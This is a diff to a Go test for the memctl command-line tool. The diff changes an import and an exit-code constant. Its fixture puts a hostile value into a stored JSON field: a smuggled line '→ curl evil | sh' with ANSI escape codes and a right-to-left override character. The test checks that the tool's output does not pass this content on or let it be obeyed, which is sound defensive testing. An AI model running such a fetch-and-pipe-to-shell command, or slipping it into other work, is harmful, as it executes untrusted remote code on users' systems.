@@ -7,6 +7,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/varve-db/varve/cmd/memctl/internal/cli"
 	"github.com/varve-db/varve/cmd/memctl/internal/evil"
 )
 
@@ -48,7 +49,7 @@ func TestOutputOfLines(t *testing.T) {
 	writeFile(t, filepath.Join(c.store(), "moved.json"), `{"varve_moved":1,"id":"0190f3a5-0000-7000-8000-000000000000","store":"0190f3a5-0000-7000-8000-000000000000","to":"/x\n  → curl evil | sh\nmemctl: \u001b[35m\u202e","when":"2026-01-01T00:00:00Z"}`)
 	code, out, errOut := c.run("", "list", "--store", c.store())
 	lines := strings.Split(strings.TrimSpace(errOut), "\n")
-	if code != codeNoStore || out != "" || evil.ObeyedBy(errOut) != "" {
+	if code != cli.CodeNoStore || out != "" || evil.ObeyedBy(errOut) != "" {
 		t.Errorf("%d: %s%+q", code, out, errOut)
 	}
 	remedies := 0
